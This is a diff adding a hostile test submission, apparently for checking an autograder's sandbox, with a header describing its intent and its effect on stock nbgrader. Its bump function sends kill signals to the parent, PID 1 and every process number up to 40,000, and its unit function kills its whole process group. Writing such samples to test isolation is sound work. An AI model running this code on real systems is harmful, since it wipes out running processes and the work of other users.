@@ -1,0 +1,28 @@
+# title: Kills whom it can reach
+# kind: process
+# tries: to end its harness, the judge, other submissions: every process number there is.
+# gets: bump_test crashed; unit_test crashed
+# needs: namespaces
+# stock: nbgrader 0.9.6: nothing recorded (exit status -15)
+# %% bump
+import os
+import signal
+
+
+def bump(x):
+    for number in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP):
+        for pid in (os.getppid(), 1):
+            try:
+                os.kill(pid, number)
+            except OSError:
+                pass
+    for pid in range(2, 40_000):
+        if pid != os.getpid():
+            try:
+                os.kill(pid, signal.SIGKILL)
+            except OSError:
+                pass
+    os.kill(os.getpid(), signal.SIGKILL)
+# %% unit
+def unit(v):
+    os.killpg(0, signal.SIGKILL)
